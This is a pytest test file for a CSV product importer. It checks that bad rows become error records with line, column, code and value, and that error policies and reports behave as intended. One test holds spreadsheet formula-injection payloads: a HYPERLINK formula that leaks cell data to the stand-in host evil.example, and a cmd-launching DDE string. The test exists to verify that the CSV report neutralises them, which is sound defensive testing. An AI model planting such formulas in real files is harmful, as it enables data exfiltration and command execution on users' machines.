"""Every kind of bad input becomes an error record with line, column, code and value."""

from __future__ import annotations

import csv
import json

import pytest

LENIENT = {"error_policy": {"maxErrors": None, "maxErrorRatio": None}}
HEADER = "sku,name,slug,status,commodity_type,price,currency,tags\n"
GOOD = "OK-1,Good,good,live,physical,1.00,EUR,a\n"


def errors_by_code(result):
    return {e.code: e for e in result.errors}


@pytest.mark.parametrize(
    ("row", "code", "column", "value"),
    [
        (",Nameless sku,s,live,physical,1,EUR,", "missing_required", "sku", None),
        ("X-1,,s,live,physical,1,EUR,", "missing_required", "name", None),
        ("X-1,N,s,published,physical,1,EUR,", "invalid_enum", "status", "published"),
        ("X-1,N,s,live,virtual,1,EUR,", "invalid_enum", "commodity_type", "virtual"),
        ("X-1,N,s,live,physical,12.5x,EUR,", "invalid_number", "price", "12.5x"),
        ("X-1,N,s,live,physical,-3,EUR,", "negative_price", "price", "-3"),
        ("X-1,N,s,live,physical,3,EURO,", "invalid_currency", "currency", "EURO"),
        ("X-1,N,bad slug!,live,physical,3,EUR,", "invalid_slug", "slug", "bad slug!"),
        (
            "X-1,N,s,live,physical,3,EUR," + '"' + ",".join(f"t{i}" for i in range(21)) + '"',
            "too_many_tags",
            "tags",
            None,
        ),
        ('X-1,N,s,live,physical,3,EUR,"short,' + "t" * 256 + '"', "too_long", "tags", None),
    ],
)
def test_rule_violation_is_an_error_record(engine, row, code, column, value):
    path = engine.write("p.csv", HEADER + GOOD + row + "\n")
    result = engine.run(path, **LENIENT)
    assert result.counts.rows == 2
    assert result.counts.rejected == 1
    assert result.counts.created == 1  # the good row is still imported
    error = errors_by_code(result)[code]
    assert error.line == 3
    assert error.column == column
    if value is not None:
        assert error.value == value
    assert error.message  # a sentence, not just a code
    assert set(engine.products()) == {"OK-1"}


def test_long_tags_are_measured_in_characters_not_bytes(engine):
    # 255 two-byte characters: 510 bytes, the longest tag allowed.
    row = "X-1,N,s,live,physical,3,EUR," + "é" * 255 + "\n"
    result = engine.run(engine.write("p.csv", HEADER + GOOD + row), **LENIENT)
    assert (result.counts.created, result.counts.rejected) == (2, 0)


def test_malformed_rows_are_captured_with_their_physical_lines(engine):
    content = (
        "sku,name,description\n"  # 1
        'A,Alpha,"two\nlines"\n'  # 2-3
        "B,Beta,too,many\n"  # 4  too many columns
        "C,Gamma\n"  # 5  too few
        'D,"Delta,broken quote\n'  # 6  an unterminated quote runs on...
        "E,Eps,fine\n"  # 7
        'F,Phi,"three\n'  # 8  ...to the next quote character,
        "line\n"  # 9  so these two lines are left over
        'desc"\n'  # 10 as malformed records of their own
        "G,Gee,ok\n"  # 11
        "H,,missing name\n"  # 12
    )
    result = engine.run(engine.write("p.csv", content), **LENIENT)
    got = [(e.line, e.code) for e in result.errors]
    assert got == [
        (4, "malformed_row"),
        (5, "malformed_row"),
        (6, "malformed_row"),
        (9, "malformed_row"),
        (10, "malformed_row"),
        (12, "missing_required"),
    ]
    assert result.counts.rows == result.counts.rejected + result.counts.created == 8
    assert set(engine.products()) == {"A", "G"}
    assert "B" not in engine.products()  # never imported with a column dropped
    assert "C" not in engine.products()  # never padded with empty values
    too_many = result.errors[0]
    assert "B,Beta,too,many" in too_many.value


def test_duplicate_sku_first_occurrence_wins_and_message_names_it(engine):
    content = (
        HEADER + "D-1,First,s,live,physical,1,EUR,\n" + GOOD + "D-1,Second,s,live,physical,2,EUR,\n"
    )
    result = engine.run(engine.write("p.csv", content), **LENIENT)
    dup = errors_by_code(result)["duplicate_sku"]
    assert dup.line == 4 and dup.value == "D-1"
    assert "line 2" in dup.message and "D-1" in dup.message
    assert engine.products()["D-1"]["name"] == "First"


def test_long_values_are_truncated_in_the_report(engine):
    content = HEADER + GOOD + "X-1,N,s,live,physical," + "9" * 500 + "x,EUR,\n"
    result = engine.run(engine.write("p.csv", content), **LENIENT)
    assert len(errors_by_code(result)["invalid_number"].value) <= 200


def test_full_report_is_written_as_csv_and_json(engine):
    bad = "".join(f"B-{i},N,s,live,physical,-{i + 1},EUR,\n" for i in range(15))
    result = engine.run(engine.write("p.csv", HEADER + GOOD + bad), **LENIENT)
    assert len(result.errors) == 10  # inline: the first few
    prefix = f"default/main/imports/{result.importId}"
    rows = list(csv.DictReader(engine.store.get(f"{prefix}/errors.csv").decode().splitlines()))
    assert len(rows) == 15
    assert rows[0] == {
        "line": "3",
        "column": "price",
        "code": "negative_price",
        "message": "price must be >= 0, got -1",
        "value": "-1",
    }
    as_json = json.loads(engine.store.get(f"{prefix}/errors.json"))
    assert len(as_json) == 15 and as_json[-1]["line"] == 17
    assert result.errorsRef.endswith(f"{prefix}/errors.csv")


def test_error_policy_max_errors_fails_the_import_and_commits_nothing(engine):
    bad = "".join(f"B-{i},N,s,live,physical,-1,EUR,\n" for i in range(3))
    result, code = engine.run_with_code(
        engine.write("p.csv", HEADER + GOOD * 1 + bad),
        error_policy={"maxErrors": 2, "maxErrorRatio": None},
    )
    assert (result.phase, result.reason, code) == ("Failed", "ErrorPolicyExceeded", 65)
    assert "maxErrors=2" in result.message
    assert result.errors and result.errorsRef  # the report is there to act on
    assert [e.line for e in result.errors] == [3, 4, 5]  # header, GOOD, then the bad rows
    assert engine.catalog().head().version == 0  # nothing committed


def test_error_policy_ratio(engine):
    rows = GOOD + "".join(f"G-{i},N,s,live,physical,1,EUR,\n" for i in range(8))
    rows += "B-1,N,s,live,physical,-1,EUR,\n"  # 1 of 10 = 10%
    result = engine.run(
        engine.write("p.csv", HEADER + rows),
        error_policy={"maxErrors": None, "maxErrorRatio": 0.05},
    )
    assert result.reason == "ErrorPolicyExceeded"
    result = engine.run(
        engine.write("p.csv", HEADER + rows), error_policy={"maxErrors": None, "maxErrorRatio": 0.2}
    )
    assert result.phase == "Succeeded" and result.counts.created == 9


def test_missing_required_column_fails_the_file_and_names_the_column(engine):
    result, code = engine.run_with_code(engine.write("p.csv", "sku,title_typo\nA,Alpha\n"))
    assert (result.phase, result.reason, code) == ("Failed", "ParseError", 65)
    assert "'name'" in result.message and "title_typo" in result.message


def test_duplicates_the_text_fields_cannot_tell_apart_keep_the_first_occurrence(engine):
    """Rows sharing a key are told apart by a hash of their narrow text fields; rows equal
    in all of those (here: only the description differs) fall back to record numbers."""
    header = "sku,name,slug,status,commodity_type,price,currency,tags,description\n"
    content = (
        header
        + "D-1,Same,s,live,physical,1,EUR,,first\n"
        + "D-2,Two,s,live,physical,1,EUR,,of D-2\n"
        + "D-1,Same,s,live,physical,1,EUR,,second\n"
        + "D-2,Other,s,live,physical,1,EUR,,\n"
        + "D-1,Same,s,live,physical,1,EUR,,third\n"
    )
    result = engine.run(engine.write("p.csv", content), **LENIENT)
    assert [(e.line, e.code) for e in result.errors] == [
        (4, "duplicate_sku"),
        (5, "duplicate_sku"),
        (6, "duplicate_sku"),
    ]
    products = engine.products()
    assert products["D-1"]["description"] == "first"
    assert products["D-2"]["name"] == "Two"
    assert result.counts.created == 2 and result.counts.rejected == 3


def test_a_hostile_files_formulas_are_inert_in_the_csv_report_and_raw_in_json(engine):
    """A cell a spreadsheet would evaluate (=HYPERLINK, =cmd|..., @SUM, +, -) comes back in
    errors.csv behind an apostrophe; errors.json keeps the value as it was."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
               "-2+3", "=1+2"]  # fmt: skip
    quoted = ['"' + value.replace('"', '""') + '"' for value in hostile]
    rows = "".join(f"H-{i},N,s,live,physical,{q},EUR,\n" for i, q in enumerate(quoted))
    rows += "N-1,N,s,live,physical,-7,EUR,\n"  # a plain negative number stays as it is
    result = engine.run(engine.write("p.csv", HEADER + GOOD + rows), **LENIENT)
    prefix = f"default/main/imports/{result.importId}"
    report = list(csv.DictReader(engine.store.get(f"{prefix}/errors.csv").decode().splitlines()))
    raw = json.loads(engine.store.get(f"{prefix}/errors.json"))
    assert [e["value"] for e in raw] == [*hostile, "-7"]
    assert [r["value"] for r in report] == [*("'" + v for v in hostile), "-7"]
    # The message quotes the value too: it starts with the field's name, never a formula.
    assert all(r["message"].startswith("price") for r in report)


def test_an_elastic_path_row_with_an_unknown_id_and_no_sku_is_only_not_found(engine):
    # Elastic Path's rows may match by id instead of sku: its preset does not require a
    # sku, so the row is rejected for its id alone, not also as a missing sku.
    path = engine.write(
        "ep.csv",
        "id,external_ref,sku,name,description,slug,status,commodity_type\n"
        "00000000-0000-0000-0000-000000000001,,,Thing,Desc,thing,live,physical\n"
        ",ref-2,,Other,Desc,other,live,physical\n",
    )
    result = engine.run(path, preset="elasticpath", **LENIENT)
    assert [(e.line, e.column, e.code) for e in result.errors] == [(2, "id", "not_found")]
    assert (result.counts.created, result.counts.rejected) == (1, 1)
